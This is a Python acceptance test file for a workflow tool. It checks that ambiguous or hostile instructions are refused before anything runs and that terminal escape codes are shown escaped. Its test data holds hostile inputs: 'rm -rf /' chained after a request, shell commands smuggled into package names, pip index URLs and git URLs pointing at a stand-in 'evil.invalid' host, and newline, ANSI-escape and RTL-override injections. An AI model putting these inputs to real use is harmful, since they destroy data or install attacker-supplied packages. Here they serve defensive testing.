"""Bad input: sentences that are not understood, hostile or only unclear, change nothing."""

import pytest

from tests.acceptance.bench import REPAIR, Bench, check_failed, check_refused
from workflows.models.record import RunRecord
from workflows.models.status import StepName

SENTENCES: dict[str, str] = {
    "another job": "delete the database",
    "no verb": "make api faster",
    "shell": "repair api; rm -rf /",
    "shell in a package": "add humanize;touch$IFS/tmp/x to api",
    "an option of pip": "add --index-url=http://evil.invalid/simple to api",
    "a url": "add git+https://evil.invalid/x.git to api",
    "a second line": "add humanize\nRUN touch /x to api",
    "a marker": "add humanize;python_version>'3' to api",
    "escape codes": "add \x1b[2Jhumanize to api",
    "reversed text": "add \u202ehumanize to api",
    "every service": "restart everything",
    "two services": "repair api and store",
    "another service than named": "repair the store service",
    "only courtesy": "please",
}


@pytest.fixture(scope="module")
def answers(bench: Bench) -> dict[str, RunRecord]:
    """What became of every sentence; the shop is untouched."""
    services: dict[str, dict[str, object]] = {"two services": {"service": None}}
    return bench.run_all(
        {case: {"instruction": text} | services.get(case, {}) for case, text in SENTENCES.items()}
    )


@pytest.mark.parametrize("case", SENTENCES)
def test_an_instruction_that_is_not_understood_is_refused(answers: dict[str, RunRecord], case: str) -> None:
    """Hostile or only unclear: refused in preflight, and the remedy says what is possible."""
    record = check_failed(answers[case], "unsupported_instruction", "ambiguous_service")
    assert record.failure is not None
    assert record.failure.step is StepName.PREFLIGHT
    assert record.plan is None


@pytest.mark.parametrize("case", ["escape codes", "reversed text", "a second line"])
def test_no_answer_obeys_what_was_typed(bench: Bench, case: str) -> None:
    """What a terminal would obey is shown escaped, in every answer: one JSON document, exit 5."""
    ran = bench.run("api", SENTENCES[case])
    record = check_refused(ran, "unsupported_instruction")
    assert record.instruction == SENTENCES[case]
    shown = bench.operator.command("show", record.run_id)
    listed = bench.operator.command("list")
    assert (shown.code, listed.code) == (0, 0)
    assert not {"\x1b", "\u202e"} & set(ran.stdout + ran.stderr + shown.stdout + listed.stdout)


@pytest.mark.parametrize("name", ["shopp", "mmt", "root"])
def test_an_unknown_project(bench: Bench, name: str) -> None:
    """``unknown_project`` with the configured ones."""
    record = check_failed(
        bench.run_all({"it": {"instruction": REPAIR, "project": name}})["it"], "unknown_project"
    )
    assert record.failure is not None
    assert bench.shop.name in record.failure.message
